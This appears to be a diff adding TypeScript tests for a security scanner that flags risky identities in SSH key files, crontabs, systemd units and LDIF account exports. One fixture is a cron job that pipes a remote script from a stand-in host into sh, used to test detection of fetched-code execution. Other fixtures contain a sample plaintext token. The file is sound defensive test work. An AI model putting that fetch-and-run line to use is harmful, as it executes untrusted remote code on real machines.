@@ -1,0 +1,109 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { readSource } from '../../../test/read-source.ts'
+import { machinesSource } from './source.ts'
+
+const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBPPVXDPOsdqf0ysUXYD8BY/6D8Y7wO1gY5k9J0E9z7R ci@acme'
+const SECRET = 'Zq8xV2mN7pL4tR9wK3yB'
+const account = (...lines: readonly string[]) =>
+  [
+    'dn: CN=svc-etl,OU=Services,DC=acme',
+    'objectClass: user',
+    'objectClass: person',
+    'sAMAccountName: svc-etl',
+    'pwdLastSet: 134300000000000000',
+    ...lines,
+    '',
+  ].join('\n')
+const unit = (...lines: readonly string[]) =>
+  ['[Unit]', 'Description=x', '[Service]', 'ExecStart=/usr/bin/app --serve', ...lines].join('\n')
+const NEVER = 'credential/without-end medium'
+
+const FACTS: readonly [string, string, string, string[]][] = [
+  ['a key for anything', 'home/app/.ssh/authorized_keys', KEY, ['credential/unrestricted medium', NEVER]],
+  ['a key for one command', 'home/app/.ssh/authorized_keys', `command="/bin/backup",no-pty ${KEY}`, [NEVER]],
+  ['a key with an end', 'home/app/.ssh/authorized_keys', `from="10.0.0.1",expiry-time="20270101" ${KEY}`, []],
+  ['a key of root', 'root/.ssh/authorized_keys', `from="10.0.0.1" ${KEY}`, ['account/superuser high', NEVER]],
+  ['a job', 'etc/cron.d/backup', '0 3 * * * backup /usr/local/bin/backup --all', []],
+  ['a job of root', 'etc/cron.d/backup', '@daily root /usr/local/bin/backup', ['account/runs-as-root low']],
+  [
+    'a job that runs what it fetches',
+    'crontab',
+    '*/5 * * * * curl -s https://x.example/run.sh | sh',
+    ['account/runs-fetched-code high'],
+  ],
+  [
+    'a job with a secret',
+    'crontab',
+    `API_TOKEN=${SECRET}\n0 3 * * * /usr/local/bin/sync`,
+    ['settings/plain-secret high'],
+  ],
+  ['a service with a user', 'app.service', unit('User=app'), []],
+  ['a service of root', 'app.service', unit(), ['account/runs-as-root low']],
+  ['a service of root that is shut in', 'app.service', unit('CapabilityBoundingSet=CAP_NET_BIND_SERVICE'), []],
+  [
+    'a service with a secret',
+    'app.service',
+    unit('User=app', `Environment="API_TOKEN=${SECRET}" MODE=live`),
+    ['settings/plain-secret high'],
+  ],
+  ['an account of a program', 'users.ldif', account(), []],
+  ['an account whose password never ends', 'users.ldif', account('userAccountControl: 66048'), [NEVER]],
+  [
+    'an administrator',
+    'users.ldif',
+    account('memberOf: CN=Domain Admins,CN=Users,DC=acme'),
+    ['account/superuser high'],
+  ],
+  [
+    'an account that may act as anybody',
+    'users.ldif',
+    account('userAccountControl: 524800'),
+    ['account/becomes-others high'],
+  ],
+  ['an account without a password', 'users.ldif', account('userAccountControl: 544'), ['account/no-password high']],
+  [
+    'a disabled account in groups',
+    'users.ldif',
+    account('userAccountControl: 514', 'memberOf: CN=x,DC=acme'),
+    ['account/disabled-with-access low'],
+  ],
+  [
+    'an account with an old password',
+    'users.ldif',
+    account().replace('134300000000000000', '133000000000000000'),
+    ['credential/old high'],
+  ],
+]
+
+for (const [name, path, text, rules] of FACTS)
+  test(`a machine with ${name} gives ${rules.length === 0 ? 'no finding' : rules.join(' and ')}`, () => {
+    const { rulesFound, problems, related } = readSource(machinesSource, text, path)
+    assert.deepEqual(problems, [])
+    assert.equal(related.length, 1)
+    assert.deepEqual(rulesFound, rules)
+  })
+
+test('people and computers of a directory are left out; folded and encoded lines are read; the GUID is the key', () => {
+  const person = 'dn: CN=Ann,DC=acme\nobjectClass: person\nsAMAccountName: ann\n\n'
+  const computer = 'dn: CN=PC1,DC=acme\nobjectClass: person\nobjectClass: computer\nservicePrincipalName: HOST/pc1\n\n'
+  const managed =
+    'dn:: Q049d2ViLERDPWFjbWU=\nobjectClass: msDS-GroupManaged\n ServiceAccount\nsAMAccountName: web$\nobjectGUID:: AQIDBA==\n'
+  const { sightings } = readSource(machinesSource, `${person}${computer}${managed}`, 'users.ldif')
+  assert.deepEqual(
+    sightings.map(({ name, stableKey, where }) => [name, stableKey, where.line]),
+    [['directory account web$', 'ldap:01020304', 10]],
+  )
+})
+
+test('what is no key, no job and no service is no identity, and hostile files end', () => {
+  const nothing: [string, string][] = [
+    ['authorized_keys', '# ssh-rsa AAAA\nssh-rsa AAAA...\nrubbish\n'],
+    ['crontab', '# 0 3 * * * x\nA=b\nno job here\n'],
+    ['x.service', '[Unit]\nDescription=x\n'],
+    ['x.ldif', 'dn\n: x\n version: 1\n'],
+    ['x.ldif', `dn: a\n${' x\n'.repeat(50_000)}`],
+    ['crontab', `${'~ '.repeat(100_000)}\n`],
+  ]
+  for (const [path, text] of nothing) assert.deepEqual(readSource(machinesSource, text, path).sightings, [], path)
+})
